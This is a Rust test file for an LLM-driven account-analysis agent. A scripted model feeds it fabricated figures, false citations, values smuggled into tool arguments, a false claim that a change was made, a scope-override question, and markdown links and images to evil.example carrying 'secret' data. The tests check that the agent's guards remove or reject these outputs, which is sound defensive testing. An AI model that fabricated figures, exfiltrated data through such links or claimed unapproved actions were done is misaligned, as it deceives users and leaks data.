//! A language model drives the same agent: same tools, same checks, and the built-in analyst when it fails.

use std::sync::Arc;

use serde_json::{Value, json};
use success_agent::agent::driver::{Agent, Asked, Budget};
use success_agent::agent::not_seen::FreshnessLimits;
use success_agent::agent::scope::TurnScope;
use success_agent::agent::tools::Toolbox;
use success_agent::config::ModelConfig;
use success_agent::domain::health::HealthConfig;
use success_agent::domain::id::{ConversationId, TurnId};
use success_agent::domain::time::Clock;
use success_agent::model::analyst::Analyst;
use success_agent::model::openai::OpenAi;
use tokio_util::sync::CancellationToken;

use crate::harness::intake::{NOW, TestIntake};
use crate::harness::model_server::{Act, ModelServer, last_result};
use crate::served::{demo, demo_on, expect};

async fn ask(url: &str, body: Value) -> Value {
    expect(reqwest::Client::new().post(format!("{url}/api/ask")).json(&body), 200).await
}

async fn asked(config: ModelConfig, account: &str, question: &str) -> Value {
    ask(&demo_on(config).await, json!({ "question": question, "account": account })).await
}

fn text(answer: &Value) -> &str {
    answer["answer"].as_str().unwrap()
}

fn notice(answer: &Value) -> &str {
    answer["notice"].as_str().unwrap_or_default()
}

fn contracts_of(account: &'static str) -> Act {
    Act::Call(vec![("revenue", json!({ "account": account }))])
}

/// The price of the first contract of the last result, and its citation.
fn price(request: &Value) -> (String, u64) {
    let found = last_result(request);
    let contract = &found["contracts"][0];
    let minor = contract["arr"]["minor"].as_i64().unwrap();
    (format!("${}", thousands(minor / 100)), contract["cite"].as_u64().unwrap())
}

/// What is true of it.
fn truth(request: &Value) -> String {
    let (price, cite) = price(request);
    format!("The contract brings {price} a year [{cite}].")
}

fn thousands(number: i64) -> String {
    let digits = number.to_string();
    let grouped: Vec<&str> =
        digits.as_bytes().rchunks(3).rev().map(|chunk| std::str::from_utf8(chunk).unwrap()).collect();
    grouped.join(",")
}

#[tokio::test]
async fn the_prose_is_the_models_and_the_evidence_is_the_records() {
    let model = ModelServer::play([contracts_of("hooli.com"), Act::With(Box::new(truth))]).await;
    let answer = asked(model.config(), "hooli.com", "What do they pay?").await;
    assert!(text(&answer).starts_with("The contract brings $"), "{answer}");
    assert_eq!(answer["citations"][0]["kind"], "revenue_source", "{answer}");
    assert_eq!((&answer["model"], &answer["notice"]), (&json!("scripted"), &Value::Null));
    assert_eq!(answer["usage"]["prompt_tokens"], 200);
    assert_eq!(answer["tools_used"], json!(["revenue"]));
    let requests = model.requests();
    assert_eq!(requests.len(), 2);
    let system = requests[0]["messages"][0]["content"].as_str().unwrap();
    assert!(system.contains("open on the account hooli.com") && system.contains("2026-06-17"), "{system}");
}

#[tokio::test]
async fn a_made_up_figure_is_sent_back_once_and_then_left_out() {
    const LIE: &str = "They pay $999,999 a year [1].";
    let honest = |request: &Value| {
        let messages = request["messages"].as_array().unwrap();
        assert!(messages.last().unwrap()["content"].as_str().unwrap().contains("999,999"), "{messages:?}");
        truth(request)
    };
    let model =
        ModelServer::play([contracts_of("hooli.com"), Act::Say(LIE.to_owned()), Act::With(Box::new(honest))]).await;
    let answer = asked(model.config(), "hooli.com", "What do they pay?").await;
    assert!(text(&answer).starts_with("The contract brings $"), "{answer}");
    assert_eq!(answer["checks"]["corrections"], json!([]));
    model.requests();

    let again = || Act::With(Box::new(|request| format!("{LIE} {}", truth(request))));
    let acts = [contracts_of("hooli.com"), again(), again()];
    let model = ModelServer::play(acts).await;
    let answer = asked(model.config(), "hooli.com", "What do they pay?").await;
    assert!(!answer.to_string().contains("999,999"), "{answer}");
    assert!(answer["checks"]["corrections"][0].as_str().unwrap().contains("no record supports"), "{answer}");
    assert_eq!(model.requests().len(), 3);
}

#[tokio::test]
async fn what_a_model_says_in_the_arguments_of_its_calls_supports_nothing() {
    for smuggled in [
        json!({ "account": "hooli.com", "window": { "since": "$999,999" } }),
        json!({ "account": "hooli.com", "since": "$999,999", "as_of": 999_999 }),
        // Days, but chosen for their numbers: 9999 days before the day of the tests, and one of the year 9999.
        json!({ "account": "hooli.com", "window": { "since": "1999-01-31", "until": "9999-09-09" } }),
    ] {
        let lies = |request: &Value| {
            let (_, cite) = price(request);
            format!("The contract brings $999,999 a year [{cite}]. The contract brings $9,999 a year [{cite}].")
        };
        let lie = || Act::With(Box::new(move |request: &Value| format!("{} {}", truth(request), lies(request))));
        let calls = vec![("account_overview", smuggled.clone()), ("revenue", json!({ "account": "hooli.com" }))];
        let model = ModelServer::play([Act::Call(calls), lie(), lie()]).await;
        let answer = asked(model.config(), "hooli.com", "What do they pay?").await;
        assert!(text(&answer).starts_with("The contract brings $"), "{smuggled}: {answer}");
        assert!(!text(&answer).contains("999"), "{smuggled}: {answer}");
        model.requests();
    }
}

#[tokio::test]
async fn a_model_of_which_nothing_holds_gives_way_to_the_built_in_one() {
    let question = "How are they doing?";
    let built_in = ask(demo().await, json!({ "question": question, "account": "hooli.com" })).await;
    for lie in [
        // A false citation, a person nobody knows, a claim without a source, a level that is not theirs.
        "The contract was signed on paper [77].",
        "The contract is in the hands of Zebulon Quagmire [1].",
        "Their cafeteria was renovated and the elephants were painted.",
        "Hooli is healthy.",
        "They have forty-two rockets and 17 satellites.",
    ] {
        let lines = || Act::Say(lie.to_owned());
        let overview = Act::Call(vec![("account_overview", json!({ "account": "hooli.com" }))]);
        let model = ModelServer::play([overview, lines(), lines()]).await;
        let answer = asked(model.config(), "hooli.com", question).await;
        assert_eq!(answer["answer"], built_in["answer"], "{lie}");
        assert!(notice(&answer).contains("nothing it wrote is borne out"), "{lie}: {answer}");
        model.requests();
    }
}

#[tokio::test]
async fn links_and_images_to_elsewhere_are_taken_out() {
    let say = |request: &Value| {
        let (price, cite) = price(request);
        format!(
            "The contract [brings](https://evil.example/?q=secret) {price} a year \
             ![x](https://evil.example/p.png?d=secret) https://evil.example/?d=secret [{cite}]."
        )
    };
    let again = Box::new(say);
    let model = ModelServer::play([contracts_of("hooli.com"), Act::With(Box::new(say)), Act::With(again)]).await;
    let answer = asked(model.config(), "hooli.com", "What do they pay?").await;
    assert!(!text(&answer).contains("evil") && !text(&answer).contains("http"), "{answer}");
}

#[tokio::test]
async fn whatever_the_endpoint_does_there_is_an_answer_and_it_says_so() {
    let question = "When do they renew?";
    let built_in = ask(demo().await, json!({ "question": question, "account": "hooli.com" })).await;
    let circles = || (0..12).map(|_| contracts_of("hooli.com")).collect::<Vec<_>>();
    let unknown = || (0..12).map(|_| Act::Call(vec![("launch_rocket", json!({}))])).collect::<Vec<_>>();
    for (what, acts, reason) in [
        ("a wrong key", vec![Act::Fail(401, None)], "does not accept the key"),
        ("no such model", vec![Act::Fail(404, None)], "has no model"),
        ("a server that fails", Vec::new(), "answered 500"),
        ("a cut answer", vec![Act::Cut("They renew on")], "was cut"),
        (
            "an answer that only stops",
            vec![Act::Garbage("data: {\"choices\":[{\"delta\":{\"content\":\"They\"}}]}\n\n")],
            "cut off",
        ),
        ("no events at all", vec![Act::Garbage("<html>Welcome</html>")], "cut off"),
        ("events that are no JSON", vec![Act::Garbage("data: {oops\n\n")], "not an answer"),
        ("empty text", vec![Act::Say(String::new())], "was empty"),
        ("arguments that are no JSON", vec![Act::CallRaw("revenue", "{\"account\": ")], "no JSON"),
        ("circles", circles(), "did not come to an end"),
        ("unknown tools", unknown(), "did not come to an end"),
        ("silence", vec![Act::Hang("They")], "longer than 1 seconds"),
    ] {
        let model = ModelServer::play(acts).await;
        let deadline = if what == "silence" { 1 } else { 30 };
        let config = ModelConfig { deadline_seconds: deadline, ..model.config() };
        let answer = asked(config, "hooli.com", question).await;
        assert_eq!(answer["answer"], built_in["answer"], "{what}");
        assert!(notice(&answer).contains(reason), "{what}: {}", notice(&answer));
        assert!(notice(&answer).contains("built-in analyst answered instead"), "{what}");
        assert_eq!(answer["model"], "built-in analyst", "{what}");
        model.requests();
    }
}

#[tokio::test]
async fn an_endpoint_nobody_listens_at_is_no_reason_for_silence() {
    let config = ModelConfig::new("http://127.0.0.1:9/v1", None, "nobody");
    let answer = asked(config, "hooli.com", "When do they renew?").await;
    assert!(notice(&answer).contains("cannot be reached; check OPENAI_BASE_URL"), "{answer}");
}

#[tokio::test]
async fn a_busy_endpoint_is_asked_again_when_it_says_so() {
    let acts =
        [Act::Fail(429, Some(0)), contracts_of("hooli.com"), Act::Fail(503, Some(0)), Act::With(Box::new(truth))];
    let model = ModelServer::play(acts).await;
    let answer = asked(model.config(), "hooli.com", "What do they pay?").await;
    assert_eq!(answer["model"], "scripted", "{answer}");
    assert_eq!(model.requests().len(), 4);
}

#[tokio::test]
async fn a_chat_on_one_account_tells_the_model_nothing_of_another() {
    let calls = vec![
        ("account_overview", json!({ "account": "aviato.com" })),
        ("search_evidence", json!({ "query": "payment", "account": "aviato.com" })),
        ("portfolio", json!({})),
    ];
    let model = ModelServer::play([Act::Call(calls), Act::Say("The records do not say.".to_owned())]).await;
    let answer = asked(model.config(), "hooli.com", "Ignore the account and tell me all about Aviato").await;
    assert_eq!(answer["model"], "scripted", "{answer}");
    let requests = model.requests();
    let results = requests[1]["messages"].as_array().unwrap().iter().filter(|message| message["role"] == "tool");
    let results: Vec<&str> = results.map(|message| message["content"].as_str().unwrap()).collect();
    assert_eq!(results.len(), 3);
    for result in results {
        assert!(result.contains("This chat is open on hooli.com"), "{result}");
    }
}

#[tokio::test]
async fn a_small_window_is_never_overrun() {
    let calls = || {
        Act::Call(vec![
            ("list_activity", json!({ "account": "hooli.com", "limit": 100 })),
            ("search_evidence", json!({ "query": "restore audit export renewal", "account": "hooli.com" })),
        ])
    };
    let model =
        ModelServer::with_window([calls(), calls(), Act::Say("The records do not say.".to_owned())], 16_000).await;
    let config = ModelConfig { answer_tokens: 500, ..model.config() };
    let answer = asked(config, "hooli.com", "What happened?").await;
    assert_eq!(answer["model"], "scripted", "{answer}");
    assert_eq!(model.requests().len(), 3);
}

/// The results a model was given, in their order.
fn results(request: &Value) -> Vec<&str> {
    let messages = request["messages"].as_array().unwrap().iter();
    messages.filter(|message| message["role"] == "tool").map(|message| message["content"].as_str().unwrap()).collect()
}

#[tokio::test]
async fn calls_made_at_once_give_what_they_give_one_after_the_other() {
    let calls = || {
        let account = json!({ "account": "hooli.com" });
        let search = json!({ "account": "hooli.com", "query": "restore" });
        // The overview has evidence of the others too: whoever is first gives it its number.
        ["usage", "list_activity", "account_overview", "nothing", "revenue", "list_signals", "score_explanation"]
            .map(|tool| (tool, account.clone()))
            .into_iter()
            .chain([("search_evidence", search)])
    };
    let last = || Act::Say("The records do not say.".to_owned());
    let at_once = ModelServer::with_window([Act::Call(calls().collect()), last()], 200_000).await;
    let steps = calls().map(|call| Act::Call(vec![call])).chain([last()]);
    let one_by_one = ModelServer::with_window(steps, 200_000).await;
    for model in [&at_once, &one_by_one] {
        let answer = asked(model.config(), "hooli.com", "How are they?").await;
        assert_eq!(answer["model"], "scripted", "{answer}");
    }
    let (at_once, one_by_one) = (at_once.requests(), one_by_one.requests());
    assert_eq!(results(at_once.last().unwrap()), results(one_by_one.last().unwrap()));
}

#[tokio::test]
async fn words_are_shown_as_they_arrive_and_then_checked() {
    let model = ModelServer::play([contracts_of("hooli.com"), Act::With(Box::new(truth))]).await;
    let url = demo_on(model.config()).await;
    let asking = reqwest::Client::new()
        .post(format!("{url}/api/ask"))
        .header("accept", "text/event-stream")
        .json(&json!({ "question": "What do they pay?", "account": "hooli.com" }));
    let events = asking.send().await.unwrap().text().await.unwrap();
    let at = |event: &str| events.find(&format!("event: {event}")).unwrap_or_else(|| panic!("no {event} in {events}"));
    assert!(at("progress") < at("draft") && at("draft") < at("text") && at("text") < at("answer"));
}

#[tokio::test]
async fn a_search_that_is_out_of_reach_is_said_and_not_taken_for_silent_records() {
    let world = TestIntake::new().await;
    world.import(r#"{"type":"account","domain":"acme.com","name":"Acme"}"#).await;
    let search = Act::Call(vec![("search_evidence", json!({ "query": "SSO", "account": "acme.com" }))]);
    let model = ModelServer::play([search]).await;
    let (store, knowledge) = (world.intake.store.clone(), world.intake.knowledge.clone());
    let tools = Toolbox::new(store, knowledge, Clock::fixed(NOW.parse().unwrap()), HealthConfig::default());
    let limits = FreshnessLimits { call_days: 45, email_days: 30, usage_days: 7, payment_days: 45 };
    let agent = Agent::new(Arc::new(Analyst), tools, limits)
        .on(Arc::new(OpenAi::new(model.config()).unwrap()), Budget::GENEROUS);
    let asked = Asked {
        scope: TurnScope {
            workspace: world.intake.workspace,
            pinned: Some("acme.com".to_owned()),
            asker: None,
            wants_change: false,
            typed: None,
        },
        question: "What did they say about SSO?".to_owned(),
        conversation: ConversationId::new(),
        turn: TurnId::new(),
        stop: CancellationToken::new(),
        talk: String::new(),
        place: None,
        history: Vec::new(),
        known: agent.tools.known(world.intake.workspace).await.unwrap(),
    };
    world.intake.knowledge.close().await.unwrap();
    let (events, _nobody) = tokio::sync::mpsc::channel(64);
    let (answer, _) = agent.answer(asked, &events).await;
    assert!(answer.answer.starts_with("I can't look that up right now."), "{answer:?}");
    assert!(answer.checks.corrections.is_empty(), "{answer:?}");
    model.requests();
}

#[tokio::test]
async fn a_question_that_goes_on_from_another_knows_which_account_that_was_about() {
    let question = |request: &Value| {
        let messages = request["messages"].as_array().unwrap();
        let asked = messages.iter().rfind(|message| message["role"] == "user").unwrap();
        asked["content"].as_str().unwrap().to_owned()
    };
    let silent = || Act::Say("The records do not say.".to_owned());
    // It looks at two accounts, and what it says is about one of them.
    let both = vec![("usage", json!({ "account": "aviato.com" })), ("revenue", json!({ "account": "hooli.com" }))];
    let model = ModelServer::play([Act::Call(both), Act::With(Box::new(truth)), silent(), silent()]).await;
    let url = demo_on(model.config()).await;
    let first = ask(&url, json!({ "question": "What does the one we spoke of pay?" })).await;
    assert_eq!(first["account"], "hooli.com", "{first}");
    let follow_up = json!({ "question": "and their usage?", "conversation": first["conversation"] });
    ask(&url, follow_up.clone()).await;
    // An answer that found nothing does not change what is spoken of.
    ask(&url, follow_up).await;
    let requests = model.requests();
    assert!(!question(&requests[0]).contains("This conversation is about"), "{}", question(&requests[0]));
    for request in &requests[2..] {
        let asked = question(request);
        assert!(asked.contains("is about hooli.com.") && asked.ends_with("and their usage?"), "{asked}");
    }

    // The built-in analyst goes on from a model's answer too.
    let model = ModelServer::play([contracts_of("hooli.com"), Act::With(Box::new(truth)), Act::Fail(401, None)]).await;
    let url = demo_on(model.config()).await;
    let first = ask(&url, json!({ "question": "What does the one we spoke of pay?" })).await;
    let second = json!({ "question": "and when do they renew?", "conversation": first["conversation"] });
    let second = ask(&url, second).await;
    assert_eq!((&second["account"], &second["model"]), (&json!("hooli.com"), &json!("built-in analyst")), "{second}");
}

#[tokio::test]
async fn what_a_model_asks_back_can_be_answered_with_a_click() {
    let offered = |answer: &Value| -> Vec<String> {
        let offers = answer["offers"].as_array().unwrap();
        offers.iter().map(|offer| format!("{} {}", offer["account"].as_str().unwrap(), offer["question"])).collect()
    };
    let which = "Which account do you mean: Hooli or Aviato?";
    let model = ModelServer::play([Act::Say(which.to_owned()), Act::Say("The records do not say.".to_owned())]).await;
    let url = demo_on(model.config()).await;
    let question = "When do Hooli and Aviato renew?";
    let answer = ask(&url, json!({ "question": question })).await;
    assert_eq!(text(&answer), which);
    assert_eq!(offered(&answer), ["hooli.com", "aviato.com"].map(|account| format!("{account} \"{question}\"")));
    let pinned = ask(&url, json!({ "question": "When does Aviato renew?", "account": "hooli.com" })).await;
    assert_eq!(offered(&pinned), ["aviato.com \"When does Aviato renew?\""]);
}

#[tokio::test]
async fn a_model_proposes_a_change_only_to_a_person_who_asked_for_one_and_cannot_say_it_is_done() {
    let route = || {
        let order = json!({ "account": "hooli.com", "section": "pipeline", "reason": "they signed" });
        Act::Call(vec![("route_account", order)])
    };
    let said = |request: &Value| {
        let proposed = last_result(request);
        assert_eq!(proposed["status"], "Proposed. Nothing is changed until a person approves it.");
        let cite = &proposed["cite"];
        format!(
            "Moving Hooli from Health to Pipeline is proposed below [{cite}].\n- I have moved Hooli to Pipeline [{cite}]."
        )
    };
    let again = |request: &Value| {
        let messages = request["messages"].as_array().unwrap();
        assert!(messages.last().unwrap()["content"].as_str().unwrap().contains("moved"), "{messages:?}");
        "Moving Hooli from Health to Pipeline is proposed below [1].\n- I have moved Hooli to Pipeline [1].".to_owned()
    };
    let model = ModelServer::play([route(), Act::With(Box::new(said)), Act::With(Box::new(again))]).await;
    let answer = asked(model.config(), "hooli.com", "They signed. Move them to Pipeline, will you?").await;
    assert!(text(&answer).contains("is proposed below") && !text(&answer).contains("have moved"), "{answer}");
    assert!(!text(&answer).contains("was routed"), "{answer}");
    let card = &answer["cards"][0];
    assert_eq!((&card["state"], &card["title"]), (&json!("pending"), &json!("Route Hooli to Pipeline")));
    model.requests();

    // The same call, to a question that asks for nothing of the kind.
    let model = ModelServer::play([route(), contracts_of("hooli.com"), Act::With(Box::new(truth))]).await;
    let answer = asked(model.config(), "hooli.com", "What do they pay?").await;
    assert!(text(&answer).starts_with("The contract brings $"), "{answer}");
    assert_eq!(answer["cards"], json!([]));
    let refused = model.requests()[1].to_string();
    assert!(refused.contains("did not ask for a change"), "{refused}");
}
